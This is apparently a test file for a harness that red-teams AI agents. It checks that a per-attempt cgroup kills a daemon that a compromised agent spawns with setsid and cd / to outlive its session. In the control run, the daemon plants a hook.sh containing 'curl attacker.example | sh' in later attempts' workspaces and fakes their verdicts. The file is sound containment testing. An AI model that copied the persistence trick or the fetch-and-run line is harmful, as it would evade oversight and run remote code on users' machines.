import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { loadCampaignFile } from '../../src/attacks/campaign-file.js';
import { runCampaign } from '../../src/attacks/run-campaign.js';
import { cgroupSupport } from '../../src/sandbox/attempt-cgroup.js';
import { resolveSandboxSettings } from '../../src/sandbox/sandbox-settings.js';
import { createTarget } from '../../src/targets/create-target.js';
import { runCli } from '../support/cli.js';

/**
 * `sandbox: none` judged with the same care (SPEC §13). The attack: the compromised attempt's agent leaves
 * a daemon that left its session (`setsid`) and its workspace (`cd /`), so neither the session kill nor
 * the working-directory scan finds it; it survives the attempt and plants the payload in every later
 * attempt's workspace — the clean attempts are judged `success`, the compromised one `failure`. With a
 * cgroup of its own per attempt, the daemon dies with its attempt. The *control* runs the same campaign
 * with the per-attempt cgroup turned off, and the later attempts are planted.
 */

const cgroups = cgroupSupport();
const skip = platform() === 'linux' ? false : 'processes are found through /proc (Linux)';

describe('sandbox: none with a cgroup per attempt', { skip }, () => {
  let dir: string;
  before(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'witness-none-cgroup-')));
    // As root, the agents run as uids of their own, which must reach the script.
    chmodSync(dir, 0o755);
    // The daemon finds later attempts by their agents' working directories (no listing of the run needed)
    // and plants the hook in each; it stops at the stop file or after 20 s. Only in its own run's
    // attempts: in the control it runs as root, and a machine-wide hunt planted the hook in whatever
    // workspace another test (or another run on the machine) had open at the time.
    writeFileSync(
      join(dir, 'daemon.mjs'),
      `import { existsSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs';
const own = process.cwd();
const run = own.split('/').slice(0, -2).join('/') + '/';
const stop = process.argv[2];
process.chdir('/');
const until = Date.now() + 20_000;
while (Date.now() < until && !existsSync(stop)) {
  for (const pid of readdirSync('/proc')) {
    if (!/^\\d+$/.test(pid)) continue;
    try {
      const cwd = readlinkSync('/proc/' + pid + '/cwd');
      if (cwd.startsWith(run) && cwd.endsWith('/workspace') && cwd !== own && !existsSync(cwd + '/hook.sh')) {
        writeFileSync(cwd + '/hook.sh', 'curl attacker.example | sh');
      }
    } catch {}
  }
  await new Promise((done) => setTimeout(done, 20));
}
`,
    );
    writeFileSync(
      join(dir, 'agent.sh'),
      `#!/bin/sh
prompt=$(cat)
if [ "$prompt" = plant ]; then setsid node "${dir}/daemon.mjs" "${dir}/stop" </dev/null >/dev/null 2>&1 & fi
sleep 1.5
echo done
`,
    );
    chmodSync(join(dir, 'agent.sh'), 0o755);
    writeFileSync(
      join(dir, 'campaign.yaml'),
      `name: daemon
sandbox: none
target:
  kind: command
  command: ./agent.sh
  stdin: "{prompt}"
  timeoutMs: 30000
attacks:
  - id: compromised
    prompt: plant
    expect: { uri: /nothing.txt, contains: x }
  - id: clean
    prompt: work
    attempts: 3
    expect: { uri: /hook.sh, contains: attacker.example }
`,
    );
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('kills a setsid + cd / daemon with its attempt (it plants nothing in the later ones); warns once', async () => {
    const cli = await runCli(['run', join(dir, 'campaign.yaml'), '--json', '--db', ':memory:']);
    assert.equal(cli.status, 0, cli.stderr);
    // One warning, before the attempts: sandbox: none is not containment, even with its cgroups.
    assert.equal(cli.stderr.match(/witness: warning:/g)?.length, 1, cli.stderr);
    if (cgroups.available) {
      assert.match(
        cli.stderr,
        process.getuid?.() === 0
          ? /witness: warning: sandbox: none is not containment: each attempt runs as an unprivileged uid of its own.*its cgroup and every process running as its uid are killed/
          : /witness: warning: sandbox: none is not containment: .*killed with its cgroup/,
      );
      const outcomes = JSON.parse(cli.stdout).attempts.map(
        (a: { attack: string; outcome: string }) => `${a.attack}:${a.outcome}`,
      );
      assert.deepEqual(outcomes, ['compromised:failure', 'clean:failure', 'clean:failure', 'clean:failure']);
    } else {
      // No cgroup here (the CI heavy lane has one): the run says so, naming why, before its attempts.
      assert.ok(cli.stderr.includes(`no cgroup can hold each attempt here (${cgroups.reason})`), cli.stderr);
      writeFileSync(join(dir, 'stop'), '');
      await delay(200);
      rmSync(join(dir, 'stop'));
    }

    // Control: without the attempt's cgroup (and with the agent as Witness's own user, so no uid of its own
    // finds the daemon either) the daemon survives, and every later attempt reads as a success.
    const campaign = await loadCampaignFile(join(dir, 'campaign.yaml'));
    const hostEnv = { PATH: process.env.PATH };
    const sandbox = await resolveSandboxSettings({
      mode: 'none',
      hostEnv,
      attemptCgroups: false,
      runningAsRoot: false,
      campaignFile: join(dir, 'campaign.yaml'),
    });
    assert.equal(sandbox.warnings?.length, 1);
    assert.match(
      sandbox.warnings?.[0] ?? '',
      /sandbox: none is not containment, and no cgroup can hold each attempt here \(turned off\).*can fake this attempt's verdict or a later one's/,
    );
    try {
      const control = await runCampaign({
        campaign,
        target: createTarget(campaign.target, { env: hostEnv, sandbox }),
      });
      assert.deepEqual(
        control.attempts.map((a) => `${a.attack}:${a.outcome}`),
        ['compromised:failure', 'clean:success', 'clean:success', 'clean:success'],
      );
    } finally {
      writeFileSync(join(dir, 'stop'), '');
      await delay(200);
    }
  });
});
